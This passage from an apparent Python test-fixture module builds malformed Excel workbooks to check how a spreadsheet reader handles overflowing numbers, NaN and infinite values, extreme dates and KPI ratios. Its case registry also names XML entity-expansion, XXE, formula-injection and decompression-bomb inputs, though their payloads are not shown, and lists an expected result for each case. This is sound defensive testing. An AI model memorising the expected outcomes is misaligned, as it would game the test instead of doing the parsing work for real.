def make_amount_negative_1e308(dir: Path) -> Path:
    """年采购额 of -1e308."""
    return _cell_case(dir, "amount_negative_1e308", AMOUNT_REF, number(AMOUNT_REF, "-1e308"))


def make_amount_inf_text(dir: Path) -> Path:
    """年采购额 typed as the text 'Infinity'."""
    return _cell_case(dir, "amount_inf_text", AMOUNT_REF, inline(AMOUNT_REF, "Infinity"))


def make_amount_inf_number(dir: Path) -> Path:
    """A number cell whose value is `inf` (readers that parse with a float parser get an infinite amount)."""
    return _cell_case(dir, "amount_inf_number", AMOUNT_REF, number(AMOUNT_REF, "inf"))


def make_amount_nan_number(dir: Path) -> Path:
    """A number cell whose value is `NaN`."""
    return _cell_case(dir, "amount_nan_number", AMOUNT_REF, number(AMOUNT_REF, "NaN"))


def make_amount_400_digits(dir: Path) -> Path:
    """年采购额 typed as a 400-digit number (as text: no float holds it)."""
    return _cell_case(dir, "amount_400_digits", AMOUNT_REF, inline(AMOUNT_REF, "9" * 400))


UNVISITED_ROW = 4  # KA-003: never visited, so its next visit counts from 建档日期


def make_date_year_9999(dir: Path) -> Path:
    """建档日期 9999-12-31 (the last day Excel knows) as a real date cell, on a grade-A customer never visited:
    its next visit, 30 days later, lies past the last date Python knows."""
    base = write_valid_rep_workbook(dir / ".base-date_year_9999.xlsx", rep_name("date_year_9999"), graded=True)
    ref = f"E{UNVISITED_ROW}"
    return mutate(base, dir / "date_year_9999.xlsx", {CUSTOMER_PART: lambda xml: set_cell(xml, ref, number(ref, "2958465", style="1"))})


GRADED_CASES = {"date_year_9999"}  # whose customers are graded A (the others' are 未评级)


def make_date_serial_1e12(dir: Path) -> Path:
    """建档日期 as a date-formatted cell holding the serial 1e12 (about 2.7 billion years)."""
    return _cell_case(dir, "date_serial_1e12", DATE_REF, number(DATE_REF, "1e12", style="1"))


def make_date_cell_infinite(dir: Path) -> Path:
    """建档日期 as a date-formatted number cell holding `-inf` (no tool writes it; calamine panics on converting it)."""
    return _cell_case(dir, "date_cell_infinite", DATE_REF, number(DATE_REF, "-inf", style="1"))


def make_number_literal_invalid(dir: Path) -> Path:
    """A number cell whose value is not a number literal at all (`<v> </v>`)."""
    return _cell_case(dir, "number_literal_invalid", AMOUNT_REF, number(AMOUNT_REF, " "))


# ---------------------------------------------------------------- the KPI workbook

KPI_HEADER = ["期间", "代表姓名", "销售计划(万元)", "实际销售(万元)", "开发计划(家)", "实际开发(家)", "结算计划(万元)", "实际结算(万元)",
              "应回款(万元)", "实际回款(万元)", "费用预算(元)", "实际费用(元)", "有效投诉(次)"]
KPI_REP = "测试KPI代表"


def write_kpi_workbook(path: Path, sales_plan=60, sales_actual=57, settings: dict | None = None) -> Path:
    """A small valid KPI workbook (考核指标, 团队, 参数) with one rep's row for 2026-10."""
    wb = openpyxl.Workbook()
    kpi = wb.active
    kpi.title = "考核指标"
    kpi.append(KPI_HEADER)
    kpi.append(["2026-10", KPI_REP, sales_plan, sales_actual, 2, 2, 50, 45, 40, 38, 20000, 18000, 0])
    team = wb.create_sheet("团队")
    team.append(["代表姓名", "邮箱", "地区"])
    team.append([KPI_REP, "kpi@example.com", "华东"])
    params = wb.create_sheet("参数")
    params.append(["参数", "值", "说明"])
    for key, value in (settings or {"cadence_a": 30}).items():
        params.append([key, value, ""])
    wb.save(path)
    return path


def make_kpi_plan_tiny(dir: Path) -> Path:
    """A KPI row whose sales plan is 1e-300 (a ratio of ~1e302 %)."""
    return write_kpi_workbook(dir / "kpi_plan_tiny.xlsx", sales_plan=1e-300, sales_actual=57)


def make_kpi_actual_huge(dir: Path) -> Path:
    """A KPI row whose actual sales are 1e30."""
    return write_kpi_workbook(dir / "kpi_actual_huge.xlsx", sales_plan=60, sales_actual=1e30)


def make_kpi_cadence_huge(dir: Path) -> Path:
    """A 参数 sheet setting the A-grade visit cadence to 3,000,000 days (past year 9999 from any date)."""
    return write_kpi_workbook(dir / "kpi_cadence_huge.xlsx", settings={"cadence_a": 3_000_000})


# ---------------------------------------------------------------- the registry

CASES: dict[str, Callable[[Path], Path]] = {
    "billion_laughs": make_billion_laughs,
    "entity_declaration": make_entity_declaration,
    "xxe_sheet": make_xxe_sheet,
    "xxe_shared_strings": make_xxe_shared_strings,
    "char_ref_nul": make_char_ref_nul,
    "char_ref_controls": make_char_ref_controls,
    "char_ref_ffff": make_char_ref_ffff,
    "raw_control_bytes": make_raw_control_bytes,
    "sheet_gbk": make_sheet_gbk,
    "sheet_utf16": make_sheet_utf16,
    "missing_sheet_part": make_missing_sheet_part,
    "duplicate_members": make_duplicate_members,
    "shared_string_out_of_range": make_shared_string_out_of_range,
    "bad_ref_1A": make_bad_ref_1A,
    "bad_ref_A0": make_bad_ref_A0,
    "bad_ref_ZZZZ1": make_bad_ref_ZZZZ1,
    "cell_at_xfd1048576": make_cell_at_xfd1048576,
    "xlsb_zip": make_xlsb_zip,
    "xlsb_panic": make_xlsb_panic,
    "garbage_xlsb": make_garbage_xlsb,
    "ole_truncated": make_ole_truncated,
    "ole_bad_sector_size": make_ole_bad_sector_size,
    "zip_encrypted": make_zip_encrypted,
    "unreadable": make_unreadable,
    "empty_file": make_empty_file,
    "truncated_zip": make_truncated_zip,
    "central_directory_lies": make_central_directory_lies,
    "html_renamed": make_html_renamed,
    "csv_renamed": make_csv_renamed,
    "non_utf8_name": make_non_utf8_name,
    "formula_injection": make_formula_injection,
    "bomb_shared_strings": make_bomb_shared_strings,
    "bomb_inline_cell": make_bomb_inline_cell,
    "wide_sheet": make_wide_sheet,
    "long_sheet": make_long_sheet,
    "wide_and_long_sheet": make_wide_and_long_sheet,
    "amount_1e308": make_amount_1e308,
    "amount_negative_1e308": make_amount_negative_1e308,
    "amount_inf_text": make_amount_inf_text,
    "amount_inf_number": make_amount_inf_number,
    "amount_nan_number": make_amount_nan_number,
    "amount_400_digits": make_amount_400_digits,
    "date_year_9999": make_date_year_9999,
    "date_serial_1e12": make_date_serial_1e12,
    "date_cell_infinite": make_date_cell_infinite,
    "number_literal_invalid": make_number_literal_invalid,
    "kpi_plan_tiny": make_kpi_plan_tiny,
    "kpi_actual_huge": make_kpi_actual_huge,
    "kpi_cadence_huge": make_kpi_cadence_huge,
}

FAILED, PROBLEM, OK = "failed", "problem", "ok"
EXPECTED: dict[str, str] = {
    "billion_laughs": FAILED, "entity_declaration": FAILED, "xxe_sheet": FAILED, "xxe_shared_strings": FAILED,
    "char_ref_nul": PROBLEM, "char_ref_controls": PROBLEM, "char_ref_ffff": PROBLEM, "raw_control_bytes": PROBLEM,
    "sheet_gbk": FAILED, "sheet_utf16": FAILED, "missing_sheet_part": FAILED, "duplicate_members": FAILED,
    "shared_string_out_of_range": FAILED, "bad_ref_1A": FAILED, "bad_ref_A0": FAILED, "bad_ref_ZZZZ1": OK,
    "cell_at_xfd1048576": FAILED, "xlsb_zip": FAILED, "xlsb_panic": FAILED, "garbage_xlsb": FAILED, "ole_truncated": FAILED,
    "ole_bad_sector_size": FAILED, "zip_encrypted": FAILED, "unreadable": FAILED, "empty_file": FAILED,
    "truncated_zip": FAILED, "central_directory_lies": FAILED, "html_renamed": FAILED, "csv_renamed": FAILED,
    "non_utf8_name": OK, "formula_injection": OK, "bomb_shared_strings": FAILED, "bomb_inline_cell": FAILED,
    "wide_sheet": OK, "long_sheet": OK, "wide_and_long_sheet": FAILED,  # 200,000 × 16,384 cells: over the limit
    "amount_1e308": PROBLEM, "amount_negative_1e308": PROBLEM, "amount_inf_text": PROBLEM, "amount_inf_number": PROBLEM,
    "amount_nan_number": PROBLEM, "amount_400_digits": PROBLEM, "date_year_9999": PROBLEM, "date_serial_1e12": PROBLEM,
    "date_cell_infinite": FAILED, "number_literal_invalid": FAILED,
    "kpi_plan_tiny": PROBLEM, "kpi_actual_huge": PROBLEM, "kpi_cadence_huge": PROBLEM,
}
KPI_CASES = tuple(name for name in CASES if name.startswith("kpi_"))
REP_CASES = tuple(name for name in CASES if name not in KPI_CASES)
assert CASES.keys() == EXPECTED.keys()

# the reason a "failed" case must give where the message catalogue already has the precise one
REASON_CODES: dict[str, str] = {"zip_encrypted": "encrypted", "empty_file": "empty_file", "html_renamed": "text_file",
                                "csv_renamed": "text_file"}

# where a "problem" case's problem must be reported: (sheet, Excel row, column label); None = any
PROBLEM_AT: dict[str, tuple[str, int | None, str | None]] = {
    # read with U+FFFD in place of the forbidden references: a warning on the file, the row kept
    "char_ref_nul": (None, None, None), "char_ref_controls": (None, None, None),
    "char_ref_ffff": ("客户档案", TARGET_ROW, "客户名称"), "raw_control_bytes": ("客户档案", TARGET_ROW, "客户名称"),
    **{name: ("客户档案", TARGET_ROW, "年采购额(万元)") for name in EXPECTED if name.startswith("amount_")},
    "date_year_9999": ("客户档案", UNVISITED_ROW, "建档日期"), "date_serial_1e12": ("客户档案", TARGET_ROW, "建档日期"),
    "kpi_plan_tiny": ("考核指标", 2, None), "kpi_actual_huge": ("考核指标", 2, None), "kpi_cadence_huge": ("参数", None, None),
}
assert {n for n, e in EXPECTED.items() if e == PROBLEM} == PROBLEM_AT.keys()
